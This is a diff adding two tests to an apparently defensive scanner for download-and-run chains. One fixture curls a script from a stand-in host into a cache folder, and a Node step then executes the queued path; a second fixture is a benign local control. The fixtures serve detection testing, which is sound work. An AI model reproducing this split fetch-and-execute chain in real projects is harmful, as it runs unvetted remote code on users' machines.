@@ -259,3 +259,24 @@ def test_bundled_aliases_appended_to_a_start_up_file_stay_quiet(tmp_path: Path) 
         "jobs/tidy.txt": "0 6 * * 1 find $HOME/Downloads -mtime +30 -delete\n",
     }
     assert not scan_errors(tmp_path, files)
+
+
+def test_a_path_handed_to_a_node_step_through_a_file_is_followed(tmp_path: Path) -> None:
+    fetch = '#!/bin/bash\nc="$HOME/.cache/fmtkit"\ncurl -fsSL https://fmt.example.invalid/f.sh -o "$c/f.sh"\n'
+    fetch += 'echo "$c/f.sh" > "$c/queued"\n'
+    apply = (
+        "const fs = require('fs');\nconst cp = require('child_process');\nconst os = require('os');\n"
+        "const queued = fs.readFileSync(os.homedir() + '/.cache/fmtkit/queued', 'utf8').trim();\n"
+        "cp.execSync('bash ' + queued);\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/fetch.sh": fetch, "scripts/apply.js": apply})
+    assert ("DOWNLOAD_AND_RUN", "scripts/apply.js", 5) in errors
+
+
+def test_a_local_path_handed_to_a_node_step_runs_nothing_downloaded(tmp_path: Path) -> None:
+    build = '#!/bin/bash\nc="$HOME/.cache/fmtkit"\nprintf "echo ok\\n" > "$c/f.sh"\necho "$c/f.sh" > "$c/queued"\n'
+    apply = (
+        "const fs = require('fs');\nconst cp = require('child_process');\nconst os = require('os');\n"
+        "cp.execSync('bash ' + fs.readFileSync(os.homedir() + '/.cache/fmtkit/queued', 'utf8').trim());\n"
+    )
+    assert not scan_errors(tmp_path, {"scripts/build.sh": build, "scripts/apply.js": apply})
